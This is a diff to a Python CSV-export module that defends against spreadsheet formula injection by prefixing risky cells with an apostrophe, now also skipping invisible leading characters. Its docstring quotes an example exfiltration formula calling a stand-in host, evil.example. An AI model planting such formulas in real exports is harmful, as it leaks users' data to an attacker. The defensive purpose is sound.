@@ -5,7 +5,9 @@ formula (`=HYPERLINK("//evil.example/"&A1,"1")` sends the neighbouring cells awa
 programs). A tab or carriage return in front of it is skipped by some importers, and so is leading white space
 when "trim spaces" is on (LibreOffice), so they count as the same threat. Full-width equals, plus,
 minus and at (U+FF1D, U+FF0B, U+FF0D, U+FF20) are turned into their ASCII forms by spreadsheet input in CJK
-locales, and are neutralised too. Every text cell that could be read
+locales, and are neutralised too, as is any of these behind invisible characters (white space of any kind, zero-width
+spaces, the byte-order mark, direction marks: a reader does not see them, and some programs drop them before
+evaluating). Every text cell that could be read
 so gets a leading apostrophe (OWASP's advice: shown as text, the apostrophe is hidden in Excel and LibreOffice).
 
 Numbers stay numbers: an int, float or Decimal is written as it is, and a text that is only a plain decimal number
@@ -15,6 +17,7 @@ from __future__ import annotations
 
 import csv
 import re
+import unicodedata
 from collections.abc import Iterable
 from decimal import Decimal
 from typing import IO, Any
@@ -29,10 +32,17 @@ def safe_cell(value: Any) -> Any:
         return value
     text = str(value)
     first = text[:1]
-    first_seen = text.lstrip(" \t\r\n\u00a0\u3000")[:1]
+    first_seen = _first_visible(text)
     if (first in FORMULA_TRIGGERS or first_seen in FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
         return "'" + text
     return text
+
+
+def _first_visible(text: str) -> str:
+    for char in text:
+        if not (char.isspace() or unicodedata.category(char) == "Cf"):
+            return char
+    return ""
 
 
 def cell_read(text: str) -> str:
